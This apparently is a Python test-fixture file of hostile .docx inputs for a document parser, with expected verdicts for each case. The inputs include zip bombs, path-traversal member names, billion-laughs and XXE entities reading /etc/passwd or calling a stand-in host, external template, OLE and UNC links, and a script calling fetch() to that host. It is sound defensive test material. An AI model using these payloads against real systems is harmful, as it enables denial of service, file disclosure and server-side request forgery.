"""Hostile Word files: bombs, loops, entities, foreign members, parts without end."""

# ruff: noqa: E501 (a file is told in one line)

from __future__ import annotations

import struct
import zipfile
from io import BytesIO

from docx_bytes import MAIN, W, document, docx, packed, paragraphs, parts, with_member
from hostile_case import Case, ok, partial, rejected

GOOD = docx()
_BILLION = (
    "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(
        f"<!ENTITY {after} '{f'&{before};' * 10}'>" for before, after in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"


def _entity(declared: str, used: str = "&a;") -> bytes:
    return docx(document(paragraphs() + f"<w:p><w:r><w:t>{used}</w:t></w:r></w:p>", declared))


def _flag_encrypted(data: bytes) -> bytes:
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(mark)
        while place >= 0:
            out[place + at] |= 1
            place = out.find(mark, place + 4)
    return bytes(out)


def _lying_size() -> bytes:
    """The directory says 100 bytes of the main part."""
    out = bytearray(GOOD)
    at = out.rfind(MAIN.encode()) - 46
    out[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(out)


def _many_members(count: int) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts().items():
            archive.writestr(zipfile.ZipInfo(name), content)
        for number in range(count):
            archive.writestr(zipfile.ZipInfo(f"word/media/{number}"), b"")
    return out.getvalue()


def _overlapping() -> bytes:
    """Every entry of the directory shows the same packed bytes."""
    out = bytearray(docx(word__a=b"\0" * (12 << 20)))
    end = out.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", out, end + 16)[0]
    at = out.rfind(b"PK\x01\x02", 0, end)
    entry, count = bytes(out[at:end]), 300
    head = bytes(out[:end]) + entry * count
    total = struct.unpack_from("<H", out, end + 10)[0] + count
    return head + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, total, total, len(head) - start, start, 0)


def _table(rows: int, columns: int) -> str:
    cell = "<w:tc><w:p><w:r><w:t>ô</w:t></w:r></w:p></w:tc>"
    return "<w:tbl>" + f"<w:tr>{cell * columns}</w:tr>" * rows + "</w:tbl>"


def _nested(levels: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * levels + paragraphs() + "</w:tc></w:tr></w:tbl>" * levels


def _styled(styles: str) -> bytes:
    body = "<w:p><w:pPr><w:pStyle w:val='A'/></w:pPr><w:r><w:t>Giao Phòng Kinh tế rà soát hồ sơ.</w:t></w:r></w:p>"
    made = parts(document(paragraphs() + body), ("styles", "styles.xml", ""))
    return packed({**made, "word/styles.xml": f"<w:styles xmlns:w='{W}'>{styles}</w:styles>"})


def _numbered(numbering: str, level: str = "0") -> bytes:
    mark = f"<w:pPr><w:numPr><w:ilvl w:val='{level}'/><w:numId w:val='1'/></w:numPr></w:pPr>"
    body = f"<w:p>{mark}<w:r><w:t>Giao Phòng Kinh tế rà soát hồ sơ.</w:t></w:r></w:p>"
    made = parts(document(paragraphs() + body), ("numbering", "numbering.xml", ""))
    return packed({**made, "word/numbering.xml": f"<w:numbering xmlns:w='{W}'>{numbering}</w:numbering>"})


_ABSTRACT = (
    "<w:abstractNum w:abstractNumId='0'>{}</w:abstractNum><w:num w:numId='1'><w:abstractNumId w:val='0'/></w:num>"
)

ARCHIVES = (
    rejected("docx/rong.docx", "empty", b""),
    rejected("docx/chi-chu-ky-zip.docx", "damaged", b"PK\x03\x04" + bytes(100)),
    rejected("docx/zip-khong-muc.docx", "unsupported", packed({})),
    rejected("docx/cat-doi.docx", "damaged", GOOD[: len(GOOD) // 2]),
    rejected("docx/mat-muc-luc.docx", "damaged", GOOD[: GOOD.find(b"PK\x01\x02")]),
    rejected("docx/byte-hong.docx", "damaged", GOOD[:400] + bytes(40) + GOOD[440:]),
    rejected("docx/thieu-noi-dung.docx", "damaged", packed({**parts(), MAIN: b""})),
    rejected("docx/khong-phai-xml.docx", "damaged", docx(b"\x00\x01 khong phai xml")),
    rejected("docx/co-mat-khau-zip.docx", "encrypted", _flag_encrypted(GOOD)),
    rejected("docx/co-mat-khau-ole.docx", "encrypted",
             b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage\0".encode("utf-16-le")),
    rejected("docx/kich-thuoc-gian-doi.docx", "damaged", _lying_size()),
    rejected("docx/bom-nen.docx", "too_large", docx(document(" " * (40 << 20)))),
    rejected("docx/bom-nen-anh.docx", "too_large", docx(word__media__a_bin=bytes(40 << 20))),
    rejected("docx/muc-chong-nhau.docx", "too_large", _overlapping()),
    rejected("docx/qua-nhieu-muc.docx", "too_large", _many_members(21_000)),
    rejected("docx/ten-thoat-ra.docx", "unsafe", with_member("../../../../tmp/khacphuc-thoat-ra")),
    rejected("docx/ten-tuyet-doi.docx", "unsafe", with_member("/etc/khacphuc-thoat-ra")),
    rejected("docx/ten-o-dia.docx", "unsafe", with_member("C:\\khacphuc\\x.exe")),
    rejected("docx/ten-gach-nguoc.docx", "unsafe", with_member("word\\..\\..\\x")),
    rejected("docx/trung-noi-dung.docx", "unsafe", with_member(MAIN, document(paragraphs(["Nội dung khác"])))),
    rejected("docx/trung-khac-hoa-thuong.docx", "unsafe", with_member("WORD/Document.xml", document())),
    rejected("docx/zip-trong-zip.docx", "unsupported", packed({"a.zip": packed({"b.zip": GOOD})})),
    rejected("docx/bang-tinh.docx", "unsupported", packed({"[Content_Types].xml": "<x/>", "xl/workbook.xml": "<x/>"})),
    rejected("docx/trinh-chieu.pdf", "not_pdf", packed({"[Content_Types].xml": "<x/>", "ppt/x.xml": "<x/>"})),
    rejected("docx/chuong-trinh.docx", "unsupported", b"MZ\x90\x00\x03" + bytes(range(256)) * 8),
    rejected("docx/nen-7z.docx", "unsupported", b"7z\xbc\xaf\x27\x1c" + bytes(99)),
    ok("docx/word-ten-pdf.pdf", GOOD + b""),
)  # fmt: skip

MARKUP = (
    rejected("docx/ty-tieng-cuoi.docx", "unsafe", _entity(_BILLION, "&j;")),
    rejected("docx/thuc-the-tep.docx", "unsafe", _entity("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>")),
    rejected("docx/thuc-the-mang.docx", "unsafe", _entity("<!DOCTYPE x [<!ENTITY a SYSTEM 'http://192.0.2.1/x'>]>")),
    rejected("docx/thuc-the-tham-so.docx", "unsafe",
            _entity("<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://192.0.2.1/x'> %a;]>", "chữ")),
    rejected("docx/dtd-ngoai.docx", "unsafe", _entity("<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd'>", "chữ")),
    partial("docx/xml-khong-dong.docx", "part_damaged", docx(document().removesuffix("</w:body></w:document>"))),
    partial("docx/xml-qua-sau.docx", "part_damaged", docx(document(paragraphs() + "<w:p>" * 3000))),
    ok("docx/utf-16.docx", docx(document().replace("UTF-8", "UTF-16").encode("utf-16"))),
    ok("docx/strict.docx", docx(document(space=_STRICT))),
    ok("docx/macro.docm", docx(None, ("vbaProject", "vbaProject.bin", ""), word__vbaProject_bin=b"Auto_Open Shell")),
    ok("docx/mau-ngoai.docx", docx(None, ("attachedTemplate", "http://192.0.2.1/x.dotm", "External"))),
    ok("docx/anh-ngoai.docx", docx(None, ("image", "\\\\192.0.2.1\\x\\a.png", "External"))),
    ok("docx/ole-ngoai.docx", docx(None, ("oleObject", "mhtml:http://192.0.2.1/x!x-usc:http://192.0.2.1", "External"))),
    ok("docx/quan-he-thoat-ra.docx", docx(None, ("styles", "../../../../../../etc/passwd", ""))),
    ok("docx/quan-he-tu-tro.docx", docx(None, ("styles", "document.xml", ""), ("numbering", "document.xml", ""))),
    rejected("docx/noi-dung-rong.docx", "empty", docx(document(""))),
    rejected("docx/chi-khoang-trang.docx", "empty", docx(document(paragraphs([" ", "\t", "\u200b", "\ufeff"])))),
    ok("docx/kieu-vong.docx", _styled(
        "<w:style w:type='paragraph' w:styleId='A'><w:basedOn w:val='B'/></w:style>"
        "<w:style w:type='paragraph' w:styleId='B'><w:basedOn w:val='A'/></w:style>")),
    ok("docx/so-vo-tan.docx", _numbered(_ABSTRACT.format(
        f"<w:lvl w:ilvl='0'><w:start w:val='{10**30}'/><w:numFmt w:val='upperRoman'/><w:lvlText w:val='%1.'/></w:lvl>"))),
    ok("docx/cap-am.docx", _numbered(_ABSTRACT.format(
        "<w:lvl w:ilvl='-5'><w:start w:val='-9'/><w:lvlText w:val='%99%-1.'/></w:lvl>"), "-5")),
    ok("docx/cap-qua-lon.docx", _numbered(_ABSTRACT.format(""), "4000000000")),
    ok("docx/kieu-so-vong.docx", _numbered(
        "<w:abstractNum w:abstractNumId='0'><w:numStyleLink w:val='S'/></w:abstractNum>"
        "<w:num w:numId='1'><w:abstractNumId w:val='0'/></w:num>")),
    ok("docx/gop-o-vo-tan.docx", docx(document(paragraphs() + "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='4000000000'/>"
        "</w:tcPr><w:p><w:r><w:t>ô</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"))),
    ok("docx/gop-o-am.docx", docx(document(paragraphs() + "<w:tbl><w:tr><w:trPr><w:gridBefore w:val='-7'/></w:trPr><w:tc>"
        "<w:tcPr><w:gridSpan w:val='-3'/><w:vMerge/></w:tcPr><w:p><w:r><w:t>ô</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"))),
    ok("docx/co-chu-vo-ly.docx", docx(document(
        f"<w:p><w:pPr><w:ind w:left='{10**400}'/></w:pPr><w:r><w:rPr><w:sz w:val='-x'/></w:rPr><w:t>chữ</w:t></w:r></w:p>"
        + paragraphs()))),
    ok("docx/bang-long-nhau.docx", docx(document(_nested(30)))),
    ok("docx/chu-thich-thieu.docx", docx(document(
        paragraphs() + "<w:p><w:r><w:footnoteReference w:id='99999999999999999999'/></w:r></w:p>"))),
    ok("docx/10000-doan.docx", docx(document(paragraphs() + paragraphs(["Đoạn"] * 10_000)))),
    ok("docx/bang-200-50.docx", docx(document(paragraphs() + _table(200, 50)))),
    partial("docx/altchunk.docx", "part_unread", packed({
        **parts(document(paragraphs() + "<w:altChunk r:id='r0'/>"), ("aFChunk", "a.html", "")),
        "word/a.html": "<html><script>fetch('http://192.0.2.1')</script>chữ</html>"})),
)  # fmt: skip

CASES: tuple[Case, ...] = (*ARCHIVES, *MARKUP)
